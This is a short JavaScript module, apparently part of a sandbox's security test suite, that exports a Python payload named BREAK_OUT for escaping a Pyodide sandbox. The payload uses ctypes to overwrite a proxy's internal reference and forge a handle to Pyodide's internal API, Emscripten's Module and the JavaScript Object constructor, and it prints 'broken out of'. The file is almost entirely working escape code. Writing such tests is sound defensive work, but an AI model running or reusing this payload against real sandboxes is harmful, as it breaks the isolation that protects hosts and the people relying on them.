/**
 * Python that has reached JavaScript. Each closed way there has its own test. One way stays open: `ctypes` writes to
 * memory. What limits it are the permissions of the objects that it reaches; the attacks that begin with this code
 * test those.
 *
 * @module
 */

/**
 * Defines `API` (Pyodide's internals), `pyodide` (its public interface), `Module` (Emscripten's), and `Object`, and `settle`:
 * it calls a function and waits for its promise on Pyodide's event loop, which gives the jobs of JavaScript a turn. The event
 * loop of the sandbox does not.
 *
 * A proxy in Python holds a number by which the engine finds the JavaScript object. `ctypes` writes another number:
 * that of the fifth object that the engine has stored, in its first generation.
 */
export const BREAK_OUT = `import ctypes
from pyodide.ffi import create_proxy, to_js
def forge(reference):
    ctypes.CDLL(None).hiwire_incref(reference)
    proxy = to_js({})
    words = (ctypes.c_int * 16).from_address(id(proxy))
    at = next(i for i in range(6, 12) if words[i] & 1 and words[i] >> 26 > 0)
    words[at] = reference
    return proxy
API = API if "API" in globals() else forge(1 << 26 | 5 << 1 | 1)
pyodide = API.public_api
Module = pyodide._module
Object = to_js({}).constructor
def settle(begin):
    import asyncio, _pyodide_core
    from pyodide.webloop import WebLoop
    loop = WebLoop()
    asyncio.set_event_loop(loop)
    asyncio._set_running_loop(loop)
    try:
        return _pyodide_core.run_sync(begin())
    finally:
        asyncio._set_running_loop(None)
        asyncio.set_event_loop(None)
print("broken out of", pyodide.version)
`;
